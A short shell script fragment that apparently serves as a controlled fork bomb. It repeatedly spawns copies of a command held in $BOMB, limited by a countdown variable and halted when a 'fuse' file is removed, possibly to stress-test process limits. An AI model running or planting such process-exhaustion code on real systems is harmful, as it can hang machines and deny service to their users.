[ -e fuse ] || exit
[ "$LEFT" -gt 0 ] || exec sleep 600
export LEFT=$((LEFT - 1))
setsid sh -c "$BOMB" &
sh -c "$BOMB" &
exec sh -c "$BOMB"
